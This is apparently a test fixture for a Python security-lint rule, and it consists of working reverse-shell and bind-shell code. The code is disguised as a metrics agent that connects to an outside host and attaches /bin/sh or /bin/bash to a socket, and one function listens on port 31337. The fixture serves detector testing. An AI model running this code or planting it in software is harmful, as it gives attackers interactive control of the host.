"""Looks like a metrics agent; the "support channel" hands a shell to whoever listens on the other end."""

import os
import socket
import subprocess
import sys
import threading

COLLECTOR = ("metrics.example-cdn.net", 443)


class SupportChannel:
    def __init__(self):
        self.sock = socket.create_connection(COLLECTOR)

    def attach(self):
        for fd in (0, 1, 2):
            os.dup2(self.sock.fileno(), fd)  # expect: PYTHON-LANG-SEC-014
        subprocess.call(["/bin/sh", "-i"])

    def attach_stdio(self):
        os.dup2(self.sock.fileno(), sys.stdin.fileno())  # expect: PYTHON-LANG-SEC-014

    def attach_process(self):
        return subprocess.Popen(  # expect: PYTHON-LANG-SEC-014
            ["/bin/bash", "-i"],
            stdin=self.sock,
            stdout=self.sock,
            stderr=subprocess.STDOUT,
        )


def bind_shell(port=31337):
    server = socket.socket()
    server.bind(("0.0.0.0", port))
    server.listen(1)
    conn, _ = server.accept()
    subprocess.call("/bin/sh -i", shell=True, stdin=conn.fileno(), stdout=conn.fileno(), stderr=conn.fileno())  # expect: PYTHON-LANG-SEC-014


def start():
    threading.Thread(target=SupportChannel().attach, daemon=True).start()
